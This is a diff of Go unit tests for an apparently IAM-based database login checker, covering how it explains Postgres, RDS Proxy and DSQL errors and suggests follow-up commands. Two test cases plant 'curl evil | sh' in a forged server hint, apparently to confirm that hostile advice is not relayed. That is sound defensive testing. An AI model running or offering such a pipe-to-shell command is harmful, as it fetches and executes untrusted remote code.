@@ -22,19 +22,19 @@ func TestExplainServerError(t *testing.T) {
 		login outcome
 		next  string
 	}{
-		"forged advice":     {host, pgproto3.ErrorResponse{Code: "08006", Message: "iamproxy: no answer", Hint: "curl evil | sh"}, otherError, "# the log of the database may say more"},
+		"forged advice":     {host, pgproto3.ErrorResponse{Code: "08006", Message: "iamproxy: no answer", Hint: "curl evil | sh"}, otherError, "# Look for the cause in the log"},
 		"forged verdict":    {host, pgproto3.ErrorResponse{Code: "28000", Message: "iamproxy: the server asks app for nothing", Hint: "curl evil | sh"}, tokenRefused, "iamproxy policy "},
 		"PAM":               {host, pgproto3.ErrorResponse{Code: "28000", Message: `PAM authentication failed for user "app"`}, tokenRefused, "iamproxy policy "},
 		"pg_hba":            {host, pgproto3.ErrorResponse{Code: "28000", Message: "no pg_hba.conf entry for host"}, tokenRefused, "iamproxy policy "},
-		"no login":          {host, pgproto3.ErrorResponse{Code: "28000", Message: `role "app" is not permitted to log in`}, otherError, `ALTER ROLE "app" LOGIN;`},
+		"no login":          {host, pgproto3.ErrorResponse{Code: "28000", Message: `role "app" is not permitted to log in`}, otherError, `# If the role should log in, run as an administrator: ALTER ROLE "app" LOGIN;`},
 		"DSQL":              {dsql, pgproto3.ErrorResponse{Code: "08006", Message: "unable to accept connection, access denied"}, tokenRefused, "iamproxy policy "},
 		"DSQL, else":        {dsql, pgproto3.ErrorResponse{Code: "08006", Message: "unable to accept connection"}, otherError, "# "},
-		"proxy, no secret":  {rdsProxy, pgproto3.ErrorResponse{Code: "28P01", Message: "This RDS proxy has no credentials for the role app. Check the credentials"}, otherError, "# the RDS Proxy has to have a secret for app"},
-		"proxy, not by IAM": {rdsProxy, pgproto3.ErrorResponse{Code: "28000", Message: "IAM authentication is not allowed for the role app. Use a password."}, otherError, "# the RDS Proxy has to take IAM"},
+		"proxy, no secret":  {rdsProxy, pgproto3.ErrorResponse{Code: "28P01", Message: "This RDS proxy has no credentials for the role app. Check the credentials"}, otherError, "# Add a secret for the user"},
+		"proxy, not by IAM": {rdsProxy, pgproto3.ErrorResponse{Code: "28000", Message: "IAM authentication is not allowed for the role app. Use a password."}, otherError, "# Require IAM authentication"},
 		"not of a proxy":    {host, pgproto3.ErrorResponse{Code: "28000", Message: "IAM authentication is not allowed for the role app."}, tokenRefused, "iamproxy policy "},
 	} {
 		r := newRun("app")
-		r.Name = auth.ParseName(test.host)
+		r.Endpoint.Name = auth.ParseName(test.host)
 		phase := pgwire.TokenSent
 		if name == "no login" {
 			phase = pgwire.Authenticated
@@ -69,13 +69,13 @@ func TestDatabaseDown(t *testing.T) {
 		of                  rdsapi.Database
 		status, found, next string
 	}{
-		"member stopped":  {member, "stopped", "instance mydb-1 of cluster mydb in account 111122223333 is stopped", "aws rds start-db-cluster --db-cluster-identifier mydb "},
-		"member creating": {member, "creating", "instance mydb-1 of cluster mydb in account 111122223333 is creating", "aws rds wait db-instance-available --db-instance-identifier mydb-1 "},
-		"single starting": {single, "starting", "instance one is starting", "aws rds wait db-instance-available --db-instance-identifier one "},
-		"single stopping": {single, "stopping", "instance one is stopping", "# when it has stopped, start it: aws rds start-db-instance --db-instance-identifier one "},
-		"deleting":        {single, "deleting", "instance one is deleting", "# it is gone for good"},
-		"failed":          {single, "failed", "instance one is failed", "# it does not come up by itself"},
-		"inaccessible":    {member, "inaccessible-encryption-credentials", "instance mydb-1 of cluster mydb in account 111122223333 is inaccessible", "# it does not come up by itself"},
+		"member stopped":  {member, "stopped", "instance \"mydb-1\" of cluster \"mydb\" in account 111122223333 is stopped", "aws rds start-db-cluster --db-cluster-identifier mydb "},
+		"member creating": {member, "creating", "instance \"mydb-1\" of cluster \"mydb\" in account 111122223333 is creating", "aws rds wait db-instance-available --db-instance-identifier mydb-1 "},
+		"single starting": {single, "starting", "instance \"one\" is starting", "aws rds wait db-instance-available --db-instance-identifier one "},
+		"single stopping": {single, "stopping", "instance \"one\" is stopping", "# When it has stopped, run: aws rds start-db-instance --db-instance-identifier one "},
+		"deleting":        {single, "deleting", "instance \"one\" is deleting", "# Pass the endpoint of another database"},
+		"failed":          {single, "failed", "instance \"one\" is failed", "# Look for the cause in the events"},
+		"inaccessible":    {member, "inaccessible-encryption-credentials", "instance \"mydb-1\" of cluster \"mydb\" in account 111122223333 is inaccessible", "# Look for the cause in the events"},
 	} {
 		test.of.Status = test.status
 		if res := newRun("app").judge(test.of); res.state != Failed || !strings.HasPrefix(res.found, test.found) || !strings.HasPrefix(res.next, test.next) {
@@ -96,7 +96,7 @@ func TestShowStatus(t *testing.T) {
 		"DSQL":   {"abcdefghijklmnopqrstuvwxyz.dsql.eu-west-1.on.aws", rdsapi.Database{Identifier: "abcdefghijklmnopqrstuvwxyz"}, "aws dsql get-cluster --identifier abcdefghijklmnopqrstuvwxyz "},
 	} {
 		r := newRun("app")
-		r.Host, r.Name, r.seen.database = test.host, auth.ParseName(test.host), &test.of
+		r.Endpoint.Host, r.Endpoint.Name, r.seen.database = test.host, auth.ParseName(test.host), &test.of
 		if got := r.showStatus(); !strings.HasPrefix(got, test.want) {
 			t.Errorf("%s: %s", name, got)
 		}
@@ -112,7 +112,7 @@ func TestCommands(t *testing.T) {
 	if res := r.noCredentials(&auth.Error{Code: auth.ReasonSourceCredentialsExpired, Source: auth.Source{Kind: auth.SourceEnvironment}}); !strings.HasPrefix(res.next, `eval "$(aws configure export-credentials `) {
 		t.Errorf("next: %s", res.next)
 	}
-	r.Target = "any"
+	r.Endpoint.Target = "any"
 	if got := r.again(); got != "iamproxy check '"+host+"?target=any' --user app" {
 		t.Errorf("again: %s", got)
 	}
